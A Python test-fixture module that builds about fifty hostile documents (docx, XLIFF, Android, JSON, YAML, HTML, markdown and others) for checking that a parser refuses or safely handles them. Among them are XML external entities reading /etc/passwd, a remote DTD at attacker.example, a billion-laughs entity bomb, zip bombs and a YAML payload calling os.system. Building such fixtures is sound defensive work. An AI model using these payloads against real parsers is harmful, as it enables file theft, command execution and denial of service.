"""Forty documents that try to use too much memory or time, to read files or to connect."""

from __future__ import annotations

import io
import zipfile

LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10 if n else "ha"}">' for n in range(10))
EXTERNAL = '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
REMOTE = '<!DOCTYPE x SYSTEM "http://attacker.example/x.dtd">'
BOMB = f"<!DOCTYPE x [{LAUGHS}]>"
W = '<w:document xmlns:w="urn:w"><w:p><w:r><w:t>%s</w:t></w:r></w:p></w:document>'
XLIFF = (
    "<xliff version='1.2'><file><body><trans-unit id='1'><source>%s</source></trans-unit></body>"
    "</file></xliff>"
)
DEEP = "<b>" * 9_999 + "</b>" * 9_999
ANDROID = "<resources><string name='a'>%s</string></resources>"


def archive(document: str | bytes, **others: bytes) -> bytes:
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as written:
        written.writestr("word/document.xml", document)
        for name, content in others.items():
            written.writestr(name.replace("__", "/"), content)
    return file.getvalue()


def _many_members() -> bytes:
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w") as written:
        written.writestr("word/document.xml", W % "x")
        for n in range(5_001):
            written.writestr(f"word/{n}", b"")
    return file.getvalue()


def _encrypted() -> bytes:
    content = bytearray(archive(W % "words"))
    place = content.rindex(b"PK\x01\x02")
    content[place + 8] |= 1
    return bytes(content)


def _wrong_size() -> bytes:
    content = bytearray(archive(W % ("x" * 10_000)))
    place = content.rindex(b"PK\x01\x02")
    content[place + 24 : place + 28] = (10).to_bytes(4, "little")
    return bytes(content)


REFUSED: dict[str, tuple[str, bytes]] = {
    "docx that unpacks to 80 MB": ("docx", archive(W % ("a" * 80_000_000))),
    "docx with a high ratio": ("docx", archive(W % ("a" * 20_000_000))),
    "docx with a wrong size": ("docx", _wrong_size()),
    "docx with a DTD": ("docx", archive(REMOTE + W % "x")),
    "docx with an external entity": ("docx", archive(EXTERNAL + W % "&e;")),
    "docx with nested entities": ("docx", archive(BOMB + W % "&l9;")),
    "docx with deep elements": ("docx", archive("<a>" * 20_000 + "</a>" * 20_000)),
    "docx with many members": ("docx", _many_members()),
    "docx with a macro": ("docx", archive(W % "x", **{"word/vbaProject.bin": b"x"})),
    "docx with a password": ("docx", _encrypted()),
    "docx cut off": ("docx", archive(W % "words")[:80]),
    "docx without a document": ("docx", archive(W % "x").replace(b"document.xml", b"dokument.xml")),
    "docx that is no archive": ("docx", b"PK\x03\x04" + b"\0" * 1_000),
    "docx that is not well-formed": ("docx", archive("<w:p><w:r></w:p>")),
    "xliff with a DTD": ("xliff", (REMOTE + XLIFF % "x").encode()),
    "xliff with an external entity": ("xliff", (EXTERNAL + XLIFF % "&e;").encode()),
    "xliff with nested entities": ("xliff", (BOMB + XLIFF % "&l9;").encode()),
    "xliff with deep elements": ("xliff", (XLIFF % ("<g>" * 9_999 + "</g>" * 9_999)).encode()),
    "xliff that is not well-formed": ("xliff", (XLIFF % "<g>").encode()),
    "xliff with another root": ("xliff", b"<html/>"),
    "xliff with a million elements": ("xliff", (XLIFF % ("<x/>" * 1_000_001)).encode()),
    "android with a DTD": ("android", (REMOTE + ANDROID % "x").encode()),
    "android with an external entity": ("android", (EXTERNAL + ANDROID % "&e;").encode()),
    "android with nested entities": ("android", (BOMB + ANDROID % "&l9;").encode()),
    "android with deep elements": ("android", (ANDROID % DEEP).encode()),
    "json with deep arrays": ("json", b"[" * 100_000 + b"]" * 100_000),
    "json that is no JSON": ("json", b'{"a": "words'),
    "json with a long number": ("json", b"[" + b"1" * 1_000_000 + b"]"),
    "json with a million strings": ("json", b"[" + b'"a",' * 1_000_000 + b'"a"]'),
    "yaml with deep lists": ("yaml", b"[" * 10_000 + b"]" * 10_000),
    "yaml that is no YAML": ("yaml", b"a: 'words"),
    "html with deep elements": ("html", b"<b>x" * 20_000 + b"</b>" * 20_000),
    "html with a million elements": ("html", b"<p>x" * 1_000_001),
    "html in another encoding": ("html", "<p>\xe9t\xe9</p>".encode("latin-1")),
    "markdown with a long paragraph": ("markdown", b"*a " * 50_000),
    "markdown with a million lines": ("markdown", b"a\n\n" * 1_000_000),
    "po that is no PO": ("po", b"not a message\n" * 10),
    "srt with a million lines": ("srt", b"a\n" * 1_000_001),
    "csv with an open quote": ("csv", b'a,"b' + b'""' * 100_000),
    "text with a million lines": ("text", b"words\n" * 1_000_001),
}  # fmt: skip
HARMLESS: dict[str, tuple[str, bytes]] = {
    "yaml with nested aliases": (
        "yaml",
        ("a0: &a0 words\n" + "".join(
            f"a{n}: &a{n} [{', '.join([f'*a{n - 1}'] * 10)}]\n" for n in range(1, 10)
        )).encode(),
    ),
    "yaml with a Python object": ("yaml", b'a: !!python/object/apply:os.system ["touch x"]\n'),
    "html with an open quote": ("html", b'<p>words</p><a "' * 20_000),
    "html with open comments": ("html", b"<p>words</p>" + b"<!--" * 100_000),
    "html with many closing tags": ("html", b"<p>words" + b"</b>" * 100_000),
    "html with elements around one word": ("html", b"<b>" * 50_000 + b"x y" + b"</b>" * 50_000),
    "markdown with many brackets": ("markdown", b"[" * 5_000 + b"](" * 5_000),
    "properties with many backslashes": ("properties", b"a=" + b"\\" * 100_001),
    "srt with many tags": ("srt", b"1\n00:00:01,000 --> 00:00:02,000\n" + b"<" * 100_000),
}  # fmt: skip
